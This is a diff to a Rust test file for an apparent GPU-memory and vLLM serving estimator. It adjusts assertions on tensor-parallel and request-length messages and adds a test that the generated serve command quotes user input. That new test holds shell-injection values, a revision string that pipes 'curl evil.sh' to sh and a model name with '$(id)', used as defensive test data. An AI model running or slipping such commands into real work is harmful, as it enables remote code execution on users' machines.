@@ -636,7 +636,10 @@ fn a_setting_vllm_refuses_outright_is_not_blamed_on_memory() {
         assert!(html.contains("data-starts=\"no\""));
         assert!(html.contains("Total number of attention heads (9) must be divisible by tensor parallel size (2)."));
         assert!(html.contains("data-util=\"\""), "no smallest util for a refused setting");
-        assert!(!html.contains("1.0"), "what fits does not blame gpu_memory_utilization: {html}");
+        assert!(!html.contains("Even gpu_memory_utilization 1.0") && !html.contains("1.0으로 올려도"), "what fits does not blame gpu_memory_utilization: {html}");
+        // It names the sizes vLLM accepts, and the fewest GPUs among them.
+        assert!(html.contains(": 1, 3, 9."), "{html}");
+        assert!(html.contains("data-tp=\"1\""), "{html}");
         assert!(!html.contains("id=\"serve-longest\""), "no longest request when vLLM never sizes its KV cache");
     }
 }
@@ -652,7 +655,18 @@ fn the_serving_card_caps_what_the_scheduler_runs_and_names_the_largest_max_model
     assert!(html.contains("the scheduler runs at most 64 (max_num_seqs)"), "{html}");
     // The longest request is a max_model_len vLLM accepts: at most the config's 131,072.
     assert!(html.contains("data-tokens=\"131072\""), "{html}");
-    assert!(html.contains("Longest request: 2,048 tokens (--max-model-len)"));
+    assert!(html.contains("Max request length (--max-model-len): 2,048 tokens. The KV cache could hold one request of up to 131,072 tokens"), "{html}");
+}
+
+#[wasm_bindgen_test]
+fn the_serving_command_line_cannot_carry_shell_commands() {
+    use ftmem_app::serve_panel::command;
+    use ftmem_core::estimate::serve;
+    let l = gpt_oss();
+    let s = Settings { rev: "abc;curl evil.sh|sh".into(), ..Settings::from_query("mode=serve").unwrap() };
+    let p = serve::plan(&l.arch, &s, ftmem_core::gpus::by_id("h100-80").unwrap()).unwrap();
+    assert_eq!(command(&s, "openai/gpt-oss-20b", &p), "vllm serve openai/gpt-oss-20b --revision 'abc;curl evil.sh|sh'");
+    assert_eq!(command(&s, "o'neil/$(id)", &p), r"vllm serve 'o'\''neil/$(id)' --revision 'abc;curl evil.sh|sh'");
 }
 
 #[wasm_bindgen_test]
